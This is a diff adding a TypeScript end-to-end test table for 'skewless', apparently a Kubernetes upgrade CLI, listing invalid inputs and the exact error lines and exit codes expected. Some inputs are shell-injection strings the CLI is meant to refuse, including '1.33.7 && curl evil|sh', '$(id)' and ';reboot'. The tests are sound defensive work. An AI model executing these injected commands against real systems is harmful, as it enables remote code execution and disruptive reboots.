@@ -1,0 +1,155 @@
+import { mergePatch, type KubeClients } from '../../sim/cluster/kube-clients.js';
+
+/**
+ * The bad-input table of test/e2e/bad-input.test.ts: what an operator (or a script) gets wrong, and
+ * the one line and exit code skewless answers with. Exit 2: the request is invalid (refused by the
+ * CLI before Temporal, or by the worker as an unknown cluster, a broken configuration, a version the
+ * repository does not offer); 1: the cluster as it is refuses (skew, unreadable inventory, blocking
+ * PDB, host key, unreachable apiserver, nothing to upgrade); 3: Temporal unreachable.
+ */
+export interface BadInput {
+  name: string;
+  args: string[];
+  exit: 1 | 2 | 3;
+  /** The one stderr line, after "skewless: ". */
+  stderr: RegExp;
+  /** Cluster state for this case (through the admin client: never audited as the worker's). */
+  setup?: () => Promise<void>;
+  cleanup?: () => Promise<void>;
+}
+
+export interface CaseContext {
+  /** The simulated cluster's name; its configuration is the worker's `<cluster>.yaml`. */
+  cluster: string;
+  kube: KubeClients;
+  /** A file that exists but is not JSON or a key (for --inventory and the like). */
+  someFile: string;
+  /** Clusters directories the `skewless worker` command must refuse to start with. */
+  badWorkerDirs: { missing: string; garbageKey: string; missingKnownHosts: string };
+  taskQueue: string;
+  address: string;
+}
+
+const upgrade = (cluster: string, to: string, ...more: string[]) => ['upgrade', '--cluster', cluster, '--to', to, ...more];
+
+/** Client-side refusals: the CLI checks these before it contacts Temporal. */
+export function cliCases({ cluster, someFile }: CaseContext): BadInput[] {
+  const to = (version: string, stderr = /^skewless: invalid target .*expected a version such as 1\.34\.2 or a minor such as 1\.34$/) =>
+    ({ name: `version ${JSON.stringify(version)}`, args: upgrade(cluster, version), exit: 2 as const, stderr });
+  const flag = (name: string, args: string[], stderr: RegExp) => ({ name, args, exit: 2 as const, stderr });
+  return [
+    to('1.33.x'), to('1.33.07'), to('latest'), to(' 1.33.7'), to('1.33.7.1'),
+    to('1.33.7;reboot'), to('$(id)'), to('`reboot`'), to('1.33.7\nreboot'), to('1.33.7 && curl evil|sh'),
+    to('', /^skewless: --to is required$/),
+    flag('cluster name with path traversal', upgrade('../x', '1.32.6'), /^skewless: invalid cluster name "\.\.\/x": a DNS label$/),
+    flag('cluster name with a slash and capitals', ['status', 'Prod/EU'], /invalid cluster name "Prod\/EU"/),
+    flag('cluster name with shell metacharacters', ['abort', 'bad;reboot'], /invalid cluster name "bad;reboot"/),
+    flag('no --cluster', ['upgrade', '--to', '1.32.6'], /^skewless: --cluster \(the cluster\) is required$/),
+    flag('unknown flag', upgrade(cluster, '1.32.6', '--yes-really'), /^skewless: Unknown option '--yes-really'/),
+    flag('a flag without its value', ['upgrade', '--cluster', cluster, '--to'], /^skewless: Option '--to <value>' argument missing$/),
+    flag('negative --drain-timeout', upgrade(cluster, '1.32.6', '--drain-timeout', '-5'), /^skewless: --drain-timeout needs a value; a value that starts with "-" is written --drain-timeout=VALUE$/),
+    flag('negative --drain-timeout, spelled with =', upgrade(cluster, '1.32.6', '--drain-timeout=-5'), /--drain-timeout must be an integer ≥ 1, got "-5"/),
+    flag('zero --drain-timeout', upgrade(cluster, '1.32.6', '--drain-timeout', '0'), /--drain-timeout must be an integer ≥ 1, got "0"/),
+    flag('non-numeric --drain-timeout', upgrade(cluster, '1.32.6', '--drain-timeout', '10m'), /--drain-timeout must be an integer ≥ 1, got "10m"/),
+    flag('--host-retry over a day', upgrade(cluster, '1.32.6', '--host-retry', '100000'), /--host-retry must be at most 86400 seconds \(a day\), got 100000/),
+    flag('zero --batch-size', upgrade(cluster, '1.32.6', '--batch-size', '0'), /--batch-size must be an integer ≥ 1, got "0"/),
+    flag('fractional --canary', upgrade(cluster, '1.32.6', '--canary', '1.5'), /--canary must be an integer ≥ 0, got "1\.5"/),
+    flag('zero --max-unavailable', upgrade(cluster, '1.32.6', '--max-unavailable', '0'), /--max-unavailable must be a count ≥ 1 or a percentage from 1% to 100%, got "0"/),
+    flag('--max-unavailable over 100%', upgrade(cluster, '1.32.6', '--max-unavailable', '150%'), /--max-unavailable must be .* got "150%"/),
+    flag('--max-unavailable that is not a number, on plan --cluster', ['plan', '--cluster', cluster, '--to', '1.32.6', '--max-unavailable', 'half'], /--max-unavailable must be .* got "half"/),
+    flag('conflicting --approve-canary and --soak', upgrade(cluster, '1.32.6', '--approve-canary', '--soak', '60'), /--soak waits after the canary when no approval is asked: leave it out with --approve-canary/),
+    flag('conflicting --canary 0 and --approve-canary', upgrade(cluster, '1.32.6', '--canary', '0', '--approve-canary'), /--canary 0 means no canary: --approve-canary would never apply/),
+    flag('conflicting plan --cluster and --inventory', ['plan', '--cluster', cluster, '--to', '1.32.6', '--inventory', someFile], /--cluster reads the live cluster: leave out --inventory and --available/),
+    flag('--acknowledge that is not NAMESPACE/PDB', upgrade(cluster, '1.32.6', '--acknowledge', 'solo'), /--acknowledge takes NAMESPACE\/PDB, got "solo"/),
+    flag('--first-control-plane that is not a node name', ['plan', '--cluster', cluster, '--to', '1.32.6', '--first-control-plane', 'cp-1 && reboot'], /--first-control-plane must be a node name/),
+    flag('malformed --task-queue', upgrade(cluster, '1.32.6', '--task-queue', 'queue with spaces'), /^skewless: invalid task queue "queue with spaces"$/),
+    flag('--address without a port', upgrade(cluster, '1.32.6', '--address', 'temporal.example'), /the Temporal address must be HOST:PORT, got "temporal\.example"/),
+    flag('--address with a port out of range', upgrade(cluster, '1.32.6', '--address', '127.0.0.1:99999'), /the Temporal address must be HOST:PORT, got "127\.0\.0\.1:99999"/),
+    flag('malformed --namespace', upgrade(cluster, '1.32.6', '--namespace', 'a namespace'), /invalid Temporal namespace "a namespace"/),
+    flag('a namespace the server does not have', upgrade(cluster, '1.32.6', '--namespace', 'no-such-namespace'), /^skewless: Namespace not found: 'no-such-namespace' \(--namespace or TEMPORAL_NAMESPACE\)$/),
+    { name: 'Temporal unreachable', args: upgrade(cluster, '1.32.6', '--address', '127.0.0.1:1'), exit: 3, stderr: /^skewless: cannot reach Temporal at 127\.0\.0\.1:1: / },
+    flag('--tls=false with a TLS file', upgrade(cluster, '1.32.6', '--tls=false', '--tls-ca-path', someFile), /TLS is off \(--tls=false\) but --tls-ca-path is set/),
+    flag('unknown --output format', ['status', cluster, '--output', 'yaml'], /^skewless: --output must be "json" or "text", got "yaml"$/),
+    flag('unknown command', ['upgarde', '--cluster', cluster], /^skewless: unknown command "upgarde"; run "skewless --help" for the list$/),
+    flag('the cluster as a positional argument of upgrade', ['upgrade', cluster, '--to', '1.32.6'], /Unexpected argument 'bad'/),
+    flag('an extra positional argument', ['status', cluster, 'now'], /^skewless: unexpected argument "now": the command takes one cluster NAME$/),
+    flag('resolve with an action that does not exist', ['resolve', cluster, '--node', 'worker-1', '--action', 'delete'], /--action must be retry, skip, force or abort, got "delete"/),
+    flag('resolve force without pods', ['resolve', cluster, '--node', 'worker-1', '--action', 'force'], /--action force needs the pods to delete, each with --pod NAMESPACE\/NAME/),
+    flag('resolve with pods but not force', ['resolve', cluster, '--node', 'worker-1', '--action', 'retry', '--pod', 'default/web-1'], /--pod names the pods --action force deletes; --action retry takes none/),
+    flag('resolve force with a malformed pod', ['resolve', cluster, '--node', 'worker-1', '--action', 'force', '--pod', 'web-1'], /--pod takes NAMESPACE\/NAME, got "web-1"/),
+    flag('resolve skip without --node', ['resolve', cluster, '--action', 'skip'], /^skewless: --action skip needs --node \(without it, resolve answers a halted rollout: retry or abort\)$/),
+    flag('resolve a node name with shell metacharacters', ['resolve', cluster, '--node', 'worker-1;reboot', '--action', 'retry'], /--node must be a node name .*got "worker-1;reboot"/),
+    flag('approve without --gate', ['approve', cluster], /^skewless: --gate is required$/),
+    flag('approve a malformed gate', ['approve', cluster, '--gate', '$(id)'], /--gate must be a gate name such as workers-1\.33\.7, got "\$\(id\)"/),
+  ];
+}
+
+/** An operator's controls on a cluster that has no upgrade. */
+export function noUpgradeCases(): BadInput[] {
+  const none = (verb: string, ...more: string[]) => ({ name: `${verb} of a cluster with no upgrade`, args: [verb, 'ghost', ...more], exit: 2 as const, stderr: /^skewless: no running upgrade of ghost$/ });
+  return [
+    none('status'), none('approve', '--gate', 'workers-1.32.6'), none('abort'), none('pause'), none('resume'),
+    none('resolve', '--node', 'worker-1', '--action', 'retry'),
+    { name: 'watch of a cluster with no upgrade', args: ['watch', 'ghost'], exit: 2, stderr: /^skewless: no upgrade of ghost found$/ },
+    { name: 'history of a cluster with no upgrade', args: ['history', 'ghost'], exit: 2, stderr: /^skewless: no upgrade of ghost found$/ },
+  ];
+}
+
+/** The worker refuses: the plan's rules on the live cluster, or the worker's lookup of the cluster. */
+export function workerCases({ cluster, kube }: CaseContext): BadInput[] {
+  const failed = (name: string, to: string, exit: 1 | 2, stderr: RegExp, more: Partial<BadInput> = {}) =>
+    ({ name, args: upgrade(cluster, to), exit, stderr, ...more });
+  const kubelet = (node: string, version: string) => kube.core.patchNodeStatus({ name: node, body: { status: { nodeInfo: { kubeletVersion: version } } } }, mergePatch).then(() => undefined);
+  const pdb = { metadata: { name: 'solo' }, spec: { minAvailable: 1, selector: { matchLabels: { app: 'solo' } } } };
+  return [
+    { name: 'an unknown cluster', args: upgrade('nosuch', '1.32.6'), exit: 2, stderr: /^skewless: upgrade of nosuch failed: no configuration for cluster nosuch \(looked for .*nosuch\.yaml\)$/ },
+    { name: 'an unknown cluster, with plan --cluster', args: ['plan', '--cluster', 'nosuch', '--to', '1.32.6'], exit: 2, stderr: /^skewless: plan of nosuch failed: no configuration for cluster nosuch/ },
+    failed('a downgrade', '1.31', 2, /^skewless: upgrade of bad failed: refusing to downgrade 1\.32\.4 → 1\.31: the control plane never goes back/),
+    failed('a target already reached', '1.32.4', 1, /^skewless: upgrade of bad failed: refusing to start: nothing to upgrade: the control plane is already at 1\.32\.4 \(target 1\.32\.4\)$/),
+    failed('a target that skips a minor the repository has no package for', '1.34', 2, /^skewless: upgrade of bad failed: no 1\.33\.x release is available, and minors cannot be skipped \(1\.32\.4 → 1\.34\)$/),
+    failed('the same, exact', '1.34.2', 2, /no 1\.33\.x release is available, and minors cannot be skipped/),
+    { name: 'the same, with plan --cluster', args: ['plan', '--cluster', cluster, '--to', '1.34'], exit: 2, stderr: /^skewless: plan of bad failed: no 1\.33\.x release is available/ },
+    failed('a patch the repository does not offer', '1.32.5', 2, /^skewless: upgrade of bad failed: 1\.32\.5 is not among the available versions$/),
+    failed('a pre-release the repository does not offer', '1.32.7-rc.0', 2, /1\.32\.7-rc\.0 is not among the available versions/),
+    failed('another major version', '2.0', 2, /cannot upgrade across major versions \(1\.32\.4 → 2\.0\)/),
+    failed('a cluster already out of skew (a kubelet newer than the apiserver)', '1.32.6', 1, /^skewless: upgrade of bad failed: refusing to start: the cluster as it is breaks the skew policy: kubelet on worker-2 at 1\.33\.0/, {
+      setup: () => kubelet('worker-2', 'v1.33.0'), cleanup: () => kubelet('worker-2', 'v1.32.4'),
+    }),
+    failed('a kubelet version the inventory cannot read', '1.32.6', 1, /^skewless: upgrade of bad failed: refusing to start: the inventory cannot read the cluster fully: node worker-1 reports kubelet version "v1\.33\.0-dirty\+abc", not a Kubernetes version$/, {
+      setup: () => kubelet('worker-1', 'v1.33.0-dirty+abc'), cleanup: () => kubelet('worker-1', 'v1.32.4'),
+    }),
+    failed('a PDB that blocks every drain, not acknowledged', '1.32.6', 1, /^skewless: upgrade of bad failed: refusing to start: .*default\/solo.*\(acknowledge with --acknowledge default\/solo\)$/, {
+      setup: () => kube.policy.createNamespacedPodDisruptionBudget({ namespace: 'default', body: pdb }).then(() => undefined),
+      cleanup: () => kube.policy.deleteNamespacedPodDisruptionBudget({ name: 'solo', namespace: 'default' }).then(() => undefined),
+    }),
+  ];
+}
+
+/** Broken variants of the cluster's configuration, as `<name>.yaml` text made from the good one. */
+export const BROKEN_CONFIGS: { name: string; exit: 1 | 2; stderr: RegExp; edit: (yaml: string, paths: { dir: string; someFile: string; publicKey: string }) => string }[] = [
+  { name: 'no-user', exit: 2, stderr: /no-user\.yaml: ssh\.user must be a non-empty string$/, edit: (y) => y.replace(/^ {2}user: .*\n/m, '') },
+  { name: 'no-kubeconfig', exit: 2, stderr: /no-kubeconfig\.yaml: kubeconfig must be a non-empty string$/, edit: (y) => y.replace(/^kubeconfig: .*\n/m, '') },
+  { name: 'wrong-type', exit: 2, stderr: /wrong-type\.yaml: ssh\.connectTimeoutSeconds must be an integer from 1 to 300$/, edit: (y) => y.replace(/connectTimeoutSeconds: \d+/, 'connectTimeoutSeconds: five') },
+  { name: 'wrong-type-mapping', exit: 2, stderr: /wrong-type-mapping\.yaml: drain must be a mapping$/, edit: (y) => y.replace(/^drain:\n {2}timeoutSeconds: \d+/m, 'drain: 300') },
+  { name: 'unknown-key', exit: 2, stderr: /unknown-key\.yaml: unknown key drian \(known: name, kubeconfig, /, edit: (y) => y.replace(/^drain:/m, 'drian:') },
+  { name: 'unknown-nested-key', exit: 2, stderr: /unknown-nested-key\.yaml: unknown key ssh\.privateKey \(known: user, /, edit: (y) => y.replace(/^ {2}sudo: true$/m, '  sudo: true\n  privateKey: inline') },
+  { name: 'relative-path', exit: 2, stderr: /relative-path\.yaml: kubeconfig must be an absolute path, got "cluster\/worker\.kubeconfig"$/, edit: (y) => y.replace(/^kubeconfig: .*$/m, 'kubeconfig: cluster/worker.kubeconfig') },
+  { name: 'not-yaml', exit: 2, stderr: /not-yaml\.yaml: not valid YAML: /, edit: (y) => y.replace(/^ssh:$/m, 'ssh: [') },
+  { name: 'other-name', exit: 2, stderr: /other-name\.yaml: name is someone-else, expected other-name$/, edit: (y) => y.replace(/^name: .*$/m, 'name: someone-else') },
+  { name: 'key-unreadable', exit: 2, stderr: /key-unreadable\.yaml: ssh\.privateKeyPath .* is not readable: not a regular file$/, edit: (y, p) => y.replace(/privateKeyPath: .*/, `privateKeyPath: ${p.dir}`) },
+  { name: 'key-missing', exit: 2, stderr: /key-missing\.yaml: ssh\.privateKeyPath .*no-such-key is not readable: ENOENT$/, edit: (y, p) => y.replace(/privateKeyPath: .*/, `privateKeyPath: ${p.dir}/no-such-key`) },
+  { name: 'key-garbage', exit: 2, stderr: /key-garbage\.yaml: ssh\.privateKeyPath .* is not an unencrypted private key \(Unsupported key format\)$/, edit: (y, p) => y.replace(/privateKeyPath: .*/, `privateKeyPath: ${p.someFile}`) },
+  { name: 'key-public', exit: 2, stderr: /key-public\.yaml: ssh\.privateKeyPath .*\.pub is not an unencrypted private key$/, edit: (y, p) => y.replace(/privateKeyPath: .*/, `privateKeyPath: ${p.publicKey}`) },
+  { name: 'known-hosts-missing', exit: 2, stderr: /known-hosts-missing\.yaml: ssh\.knownHostsPath .*no-such-known-hosts is not readable: ENOENT$/, edit: (y, p) => y.replace(/knownHostsPath: .*/, `knownHostsPath: ${p.dir}/no-such-known-hosts`) },
+  { name: 'known-hosts-empty', exit: 1, stderr: /^skewless: upgrade of known-hosts-empty failed: host cp-1 \(\[127\.0\.0\.1\]:\d+\) presented host key SHA256:\S+, which is not in .*empty-known-hosts; refusing to connect$/, edit: (y, p) => y.replace(/knownHostsPath: .*/, `knownHostsPath: ${p.dir}/empty-known-hosts`) },
+];
+
+/** `skewless worker` itself: a clusters directory it must refuse before it polls. */
+export function workerStartCases({ badWorkerDirs, taskQueue, address }: CaseContext): BadInput[] {
+  const start = (dir: string) => ['worker', '--clusters-dir', dir, '--task-queue', `${taskQueue}-refused`, '--address', address];
+  return [
+    { name: 'worker: a clusters directory that does not exist', args: start(badWorkerDirs.missing), exit: 2, stderr: /^skewless: cannot read clusters directory .*: ENOENT$/ },
+    { name: 'worker: a configuration whose SSH key is not a key', args: start(badWorkerDirs.garbageKey), exit: 2, stderr: /^skewless: .*\.yaml: ssh\.privateKeyPath .* is not an unencrypted private key/ },
+    { name: 'worker: a configuration whose known_hosts is missing', args: start(badWorkerDirs.missingKnownHosts), exit: 2, stderr: /^skewless: .*\.yaml: ssh\.knownHostsPath .* is not readable: ENOENT$/ },
+  ];
+}
